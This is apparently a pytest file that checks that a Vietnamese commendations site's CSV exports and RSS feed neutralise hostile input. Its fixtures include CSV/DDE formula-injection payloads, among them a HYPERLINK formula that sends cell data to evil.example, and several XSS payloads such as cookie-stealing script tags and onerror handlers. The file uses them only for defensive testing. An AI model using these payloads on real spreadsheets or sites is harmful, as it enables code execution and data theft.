"""Exports are inert: no CSV cell a spreadsheet runs as a formula, no feed text a reader
runs as HTML, no character that makes the feed ill-formed (spec: "Exports and tools").

Each hostile value goes through the real writer (`opendata._csv`, `feed.feed_document`)
and is read back the way its consumer reads it: Python's csv module for the spreadsheet
cell, feedparser and an HTML parser for the feed reader. One built site checks the same
on a sheet imported through `exemplars import`.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import date
from html.parser import HTMLParser

import feedparser
import openpyxl
import pytest
from conftest import TODAY
from test_import import OPTIONS

from exemplars.site.feed import FeedItem, feed_document
from exemplars.site.opendata import COMMENDATION_COLUMNS, _csv

# (value written, what a spreadsheet must receive as the cell's text)
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn An")', "'="),
    ("=cmd|' /C calc'!A0", "'="),
    ("+84912345678", "'+"),
    ("+SUM(A1:A9)", "'+"),
    ("-2+3+cmd|' /C calc'!A0", "'-"),
    ("-", "'-"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@"),
    ("\t=1+1", "'\t"),
    ("\r=1+1", "'\r"),
    ("=", "'="),
]
HARMLESS = ["Nguyễn Văn An", "Tổ 3 - khu 5", "1-2", "a=b", "", "'đã có nháy", " =1"]


def csv_cells(value: str) -> list[str]:
    row = {name: value for name, _, _ in COMMENDATION_COLUMNS}
    text = _csv(COMMENDATION_COLUMNS, [row])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[0] == [name for name, _, _ in COMMENDATION_COLUMNS]  # headers untouched
    return rows[1]


@pytest.mark.parametrize("value,start", FORMULAS, ids=[repr(v)[:24] for v, _ in FORMULAS])
def test_formula_cells_get_a_leading_apostrophe(value, start):
    cells = csv_cells(value)
    assert cells == ["'" + value] * len(COMMENDATION_COLUMNS)
    assert all(cell.startswith(start) for cell in cells)


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_written_as_they_are(value):
    assert csv_cells(value) == [value] * len(COMMENDATION_COLUMNS)


class Tags(HTMLParser):
    """What an RSS reader, which reads a description as HTML, would see as markup."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def as_reader_sees(html_text: str) -> tuple[list[str], str]:
    parser = Tags()
    parser.feed(html_text)
    parser.close()
    return parser.tags, "".join(parser.text)


FEED_HTML = [
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    (
        "<script>alert(document.cookie)</script>Trực chốt",
        "<script>alert(document.cookie)</script>Trực chốt",
    ),
    ('<a href="javascript:alert(1)">bấm</a>', '<a href="javascript:alert(1)">bấm</a>'),
    ("&lt;img src=x onerror=alert(1)&gt;", "&lt;img src=x onerror=alert(1)&gt;"),
    ("<![CDATA[<svg onload=alert(1)>]]>", "<![CDATA[<svg onload=alert(1)>]]>"),
    ("]]><script>x</script>", "]]><script>x</script>"),
    ("<iframe srcdoc='<script>1</script>'>", "<iframe srcdoc='<script>1</script>'>"),
    ("Tốt &amp; đẹp <b>đậm</b>", "Tốt &amp; đẹp <b>đậm</b>"),
]
CONTROLS = [
    ("chuông\x07 BEL", "chuông BEL"),
    ("thoát\x1b[31m đỏ", "thoát[31m đỏ"),
    ("rỗng\x00 NUL", "rỗng NUL"),
    ("lùi\x08 BS, \x0b VT, \x0c FF", "lùi BS, VT, FF"),
    ("C1\x85 NEL và \x9b CSI", "C1 NEL và CSI"),
    ("không phải ký tự \ufffe \uffff", "không phải ký tự"),
    ("nửa cặp \ud800 thay thế", "nửa cặp thay thế"),
    ("DEL\x7f xóa", "DEL xóa"),
]


def parsed_feed(values: list[str]) -> feedparser.FeedParserDict:
    items = [
        FeedItem(value, f"stories/tin-{i}/", date(2021, 10, 1 + i), value, "Tin bài")
        for i, value in enumerate(values)
    ]
    document = feed_document(items, "https://bangvang.example.vn/", "Bảng vàng\x07")
    ET.fromstring(document.encode("utf-8"))  # well-formed XML, or this raises
    feed = feedparser.parse(document.encode("utf-8"))
    assert feed.bozo == 0, feed.get("bozo_exception")
    assert len(feed.entries) == len(values)
    return feed


@pytest.mark.parametrize("value,shown", FEED_HTML, ids=[v[:20] for v, _ in FEED_HTML])
def test_feed_description_is_plain_text(value, shown):
    (entry,) = parsed_feed([value]).entries
    tags, text = as_reader_sees(entry.summary)
    assert tags == []  # the reader renders no element at all
    assert text == shown  # and shows the characters the record holds


@pytest.mark.parametrize("value,shown", CONTROLS, ids=[c[:8] for c, _ in CONTROLS])
def test_control_characters_never_make_the_feed_ill_formed(value, shown):
    (entry,) = parsed_feed([value]).entries
    assert " ".join(as_reader_sees(entry.summary)[1].split()) == shown
    assert not [c for c in entry.title if ord(c) < 32 or 0x7F <= ord(c) <= 0x9F]
    assert " ".join(entry.title.split()) == shown


def test_a_whole_feed_of_hostile_values_is_one_valid_document():
    feed = parsed_feed([value for value, _ in FEED_HTML + CONTROLS])
    assert feed.feed.title == "Bảng vàng"
    for entry in feed.entries:
        assert as_reader_sees(entry.summary)[0] == []


def text_xlsx(path, rows):
    """An .xlsx whose cells are all text, even those starting with "=" (as Excel saves a
    cell typed with a leading apostrophe, or text pasted from elsewhere)."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    for row in workbook.active.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    workbook.save(path)
    return path


def test_imported_formula_cells_are_inert_in_the_built_site(tree, tmp_path, built):
    """A council's sheet whose text cells look like formulas: imported as data, published
    as text in data/*.csv with the apostrophe the datapackage describes."""
    from exemplars.editor import importer

    sheet = text_xlsx(
        tmp_path / "ds.xlsx",
        [
            ["STT", "Họ và tên", "Chức vụ", "Đơn vị", "Thành tích"],
            [1, '=HYPERLINK("http://evil.example","Bấm vào")', "@SUM(1+1)", "tra-co", "+84 tốt"],
            [2, "Lê Thị Bình", "-1+2", "tra-co", "-Trực chốt 24/24"],
        ],
    )
    values = dict(zip(OPTIONS[::2], OPTIONS[1::2], strict=True))
    options = importer.Options(
        sheet=sheet,
        number=values["--number"],
        date=values["--date"],
        issuer=values["--issuer"],
        award=values["--award"],
        content=tree.root,
    )
    plan, _ = importer.run(options, date.fromisoformat(TODAY))
    assert len(plan.files) == 3
    site = built(tree)
    raw = (site / "data" / "commendations.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    names = {row["recipient_name"]: row for row in rows}
    evil = names["'" + '=HYPERLINK("http://evil.example","Bấm vào")']
    assert evil["position"] == "'@SUM(1+1)"
    assert names["Lê Thị Bình"]["position"] == "'-1+2"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    exemplars = (site / "data" / "exemplars.csv").read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK(" in exemplars
    package = json.loads((site / "data" / "datapackage.json").read_text(encoding="utf-8"))
    notes = [r.get("description", "") for r in package["resources"] if r["format"] == "csv"]
    assert len(notes) == 2 and all("dấu ' ở đầu" in note for note in notes)
    # The JSON keeps the value exactly: it is data, not a formula there.
    people = json.loads((site / "data" / "exemplars.json").read_text(encoding="utf-8"))
    assert any(p["name"] == '=HYPERLINK("http://evil.example","Bấm vào")' for p in people)
